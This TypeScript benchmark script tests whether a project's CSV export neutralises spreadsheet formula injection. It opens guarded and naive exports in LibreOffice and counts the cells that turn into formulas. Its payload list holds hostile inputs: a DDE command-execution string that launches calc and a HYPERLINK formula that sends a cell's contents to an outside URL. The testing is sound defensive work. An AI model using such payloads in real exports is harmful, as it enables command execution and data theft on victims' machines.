// `node --import tsx bench/spreadsheet.ts`: opens cells that want to be formulas in LibreOffice, as an export writes them and as a naive one would. Needs `soffice`.
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DELIMITERS, type DelimiterName, formatOf } from '../src/server/exports/format.ts'
import { unguard } from '../src/server/exports/formula.ts'

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '=-', '+=', '-+', '@=']
const SKIPPED = ['', ' ', '  ', '\u00a0', '\u3000', '"', "'"]
const BODIES = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org/?x="&A1,"look")', 'SUM(1;2)']
const PAYLOADS = STARTS.flatMap((start) => SKIPPED.flatMap((skipped) => BODIES.map((body) => `${skipped}${start}${body}`)))

const folder = mkdtempSync(join(tmpdir(), 'roster-spreadsheet-'))
try {
  process.stdout.write(
    `${PAYLOADS.length} cells, each alone and behind another one.\n\n| file | formulas | cells that read back |\n|---|---|---|\n`,
  )
  let found = 0
  for (const delimiter of Object.keys(DELIMITERS) as DelimiterName[]) {
    const format = formatOf('csv', ['first', 'second', 'third'], { delimiter, hasByteOrderMark: true })
    const rows = PAYLOADS.map((payload) => [payload, 'x', payload])
    const guarded = open(delimiter, 'guarded', format.start + rows.map(format.row).join('') + format.end)
    const by = DELIMITERS[delimiter]
    const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`
    const naive = open(delimiter, 'naive', rows.map((row) => `${row.map(quoted).join(by)}\r\n`).join(''))
    found += guarded.formulas
    const whole = PAYLOADS.filter((payload) => guarded.texts.has(simplified(payload))).length
    process.stdout.write(
      `| ${delimiter} | ${guarded.formulas} | ${whole} of ${PAYLOADS.length} |\n| ${delimiter}, naive | ${naive.formulas} | |\n`,
    )
    if (naive.formulas === 0) throw new Error('The naive file has no formula either: this measures nothing.')
  }
  process.exitCode = found > 0 ? 1 : 0
} finally {
  rmSync(folder, { recursive: true, force: true })
}

/** Converts a file to flat OpenDocument, where a cell that is a formula says so. */
function open(delimiter: DelimiterName, name: string, text: string): { formulas: number; texts: Set<string> } {
  const file = join(folder, `${name}-${delimiter}`)
  writeFileSync(`${file}.csv`, text)
  // delimiter, quote, UTF-8, first line, all columns as they come; the last but two: evaluate formulas
  const options = `${DELIMITERS[delimiter].charCodeAt(0)},34,76,1,,0,false,true,false,false,false,-1,true`
  const { status, stderr } = spawnSync(
    'soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${folder}/profile`,
      `--infilter=CSV:${options}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      `${file}.csv`,
    ],
    { encoding: 'utf8', timeout: 120_000 },
  )
  if (status !== 0) throw new Error(`soffice ended with ${status}: ${stderr}`)
  const sheet = readFileSync(`${file}.fods`, 'utf8')
  const cells = sheet.match(/<table:table-cell[^>]*office:value-type="string"[^>]*>.*?<\/table:table-cell>/gs) ?? []
  return { formulas: sheet.match(/table:formula=/g)?.length ?? 0, texts: new Set(cells.map((cell) => simplified(unguard(textOf(cell))))) }
}

/** The text of a cell: its lines are paragraphs; tabs and runs of spaces are elements of their own. */
function textOf(cell: string): string {
  return [...cell.matchAll(/<text:p>(.*?)<\/text:p>/gs)]
    .map(([, paragraph = '']) => paragraph)
    .join('\n')
    .replaceAll('<text:tab/>', '\t')
    .replace(/<text:s[^>]*>/g, ' ')
    .replace(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')
}

function simplified(text: string): string {
  return text.replace(/\s/g, '')
}
